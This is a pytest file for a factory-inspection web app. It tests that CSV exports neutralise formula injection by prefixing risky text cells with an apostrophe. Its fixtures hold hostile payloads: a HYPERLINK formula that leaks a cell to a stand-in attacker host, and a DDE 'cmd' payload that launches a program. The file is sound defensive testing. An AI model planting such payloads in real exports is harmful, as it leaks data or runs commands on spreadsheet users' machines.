"""CSV formula injection: text cells of every public CSV that a spreadsheet would run as a formula are written
with a leading ' (OWASP); numbers, dates and codes stay as they are."""
from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from factorysafe.db import db
from factorysafe.maps.exports import csv_cell

NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
OBSERVATION = "+cmd|' /C calc'!A0 exit blocked"
FLOOR = "-2+3"
AREA = "@SUM(1+1)"
RECOMMENDATION = "\t=1+1"
UPAZILA = "\r=2+2"


def read_csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def crafted(app, build):
    from factorysafe.inspections.models import Finding

    factory = build.factory(name=NAME, address="-1 Formula Road", upazila=UPAZILA, latitude=23.9, longitude=90.4)
    inspection = build.inspection(factory, inspected_on=dt.date.today() - dt.timedelta(days=30))
    finding = build.finding(inspection, observation=OBSERVATION)
    with app.app_context():
        row = db.session.get(Finding, finding.id)
        row.floor, row.area, row.recommendation = FLOOR, AREA, RECOMMENDATION
        db.session.commit()
    return factory


def assert_finding_row_is_safe(row: dict, factory_id: int):
    assert row["factory_name"] == "'" + NAME
    assert row["observation"] == "'" + OBSERVATION
    assert row["floor"] == "'" + FLOOR
    assert row["area"] == "'" + AREA
    assert row["recommendation"] == "'" + RECOMMENDATION
    assert row["factory_id"] == str(factory_id)  # numbers as they are
    assert row["discipline"] == "fire" and row["immediate_danger"] == "false"
    dt.date.fromisoformat(row["deadline"])  # dates as they are


def test_one_factory_findings_csv_neutralises_formulas(client, crafted):
    r = client.get(f"/factories/{crafted.id}/findings.csv")
    assert r.status_code == 200 and r.mimetype == "text/csv"
    [row] = read_csv(r.get_data(as_text=True))
    assert_finding_row_is_safe(row, crafted.id)


def test_site_wide_findings_csv_neutralises_formulas(client, crafted):
    r = client.get("/exports/findings.csv")
    assert r.status_code == 200
    [row] = read_csv(r.get_data(as_text=True))
    assert_finding_row_is_safe(row, crafted.id)


def test_site_wide_factories_csv_neutralises_formulas_and_keeps_numbers(client, crafted):
    r = client.get("/exports/factories.csv")
    assert r.status_code == 200
    [row] = read_csv(r.get_data(as_text=True))
    assert row["name"] == "'" + NAME
    assert row["address"] == "'-1 Formula Road"
    assert row["upazila"] == "'" + UPAZILA
    assert row["district"] == "Gazipur"
    assert (row["id"], row["latitude"], row["longitude"]) == (str(crafted.id), "23.9", "90.4")
    assert row["open_actions"] == "1" and row["cap_status"] in ("on_track", "behind_schedule")


def test_geojson_and_api_keep_the_text_as_it_is(client, crafted):
    """Only CSV cells get the '; JSON is not opened by spreadsheets as formulas."""
    geo = client.get("/exports/factories.geojson").get_json()
    assert geo["features"][0]["properties"]["name"] == NAME
    assert client.get(f"/api/v1/factories/{crafted.id}").get_json()["name"] == NAME


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("Gazipur", "Gazipur"), ("", ""), ("a=1", "a=1"), (" =1", " =1"),
    (-5, -5), (-0.25, -0.25), (0, 0), (None, ""), (True, "true"), (dt.date(2025, 1, 2), "2025-01-02"),
])
def test_csv_cell(value, written):
    assert csv_cell(value) == written
